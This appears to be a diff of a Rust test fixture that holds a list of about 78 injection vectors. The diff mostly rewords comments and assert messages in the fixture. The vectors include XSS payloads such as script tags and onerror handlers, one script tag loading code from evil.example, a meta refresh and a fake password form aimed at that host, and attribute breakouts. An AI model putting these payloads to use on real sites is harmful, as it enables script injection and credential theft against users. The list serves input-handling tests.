@@ -1,11 +1,11 @@
-//! Values that people have broken pages, queries and terminals with.
+//! Values that have broken pages, queries and terminals.
 
 use std::collections::BTreeSet;
 
-/// Ways to run something, to get out of where a value stands, to write another value, or to mislead a
-/// reader. What would run calls `ran()`, which a page that is being watched has.
+/// Ways to run a script, to get out of where a value stands, to write another value, or to mislead a reader. The
+/// scripts call `ran()`, which the test defines on every page.
 const VECTORS: [&str; 78] = [
-    // Elements that run something by themselves.
+    // Elements that run a script without a click.
     "<script>ran()</script>",
     "<ScRiPt>ran()</sCrIpT>",
     "<script src=//evil.example/x.js></script>",
@@ -42,7 +42,7 @@ const VECTORS: [&str; 78] = [
     "<meta http-equiv=refresh content=0;url=//evil.example/>",
     "<form action=//evil.example/><input name=password>",
     "<p style=position:fixed;inset:0;background:red>",
-    // Out of where a value stands.
+    // Values that leave the place where a value stands.
     "\"><img src=x onerror=ran()>",
     "'><img src=x onerror=ran()>",
     "\" autofocus onfocus=ran() x=\"",
@@ -89,14 +89,14 @@ const VECTORS: [&str; 78] = [
     "👩‍💻🏴‍☠️𝕊𝕔𝕣𝕚𝕡𝕥\u{1F600}\u{FFFD}\u{FEFF}\u{200B}",
 ];
 
-/// The vectors as they are, so many at a time, for pages that take several values.
+/// The vectors unchanged, `N` at a time, for pages that take several values.
 pub(crate) fn vectors<const N: usize>() -> impl Iterator<Item = [&'static str; N]> {
     let groups = VECTORS.chunks_exact(N);
-    assert!(groups.remainder().is_empty(), "all of them take part");
+    assert!(groups.remainder().is_empty(), "each group is full");
     groups.map(|group| std::array::from_fn(|at| group[at]))
 }
 
-/// At least 500 names of at most 255 characters, each another: every vector in several surroundings.
+/// At least 500 different names of at most 255 characters: every vector in several surroundings.
 pub(crate) fn names() -> Vec<String> {
     let surroundings = |vector: &str| {
         [
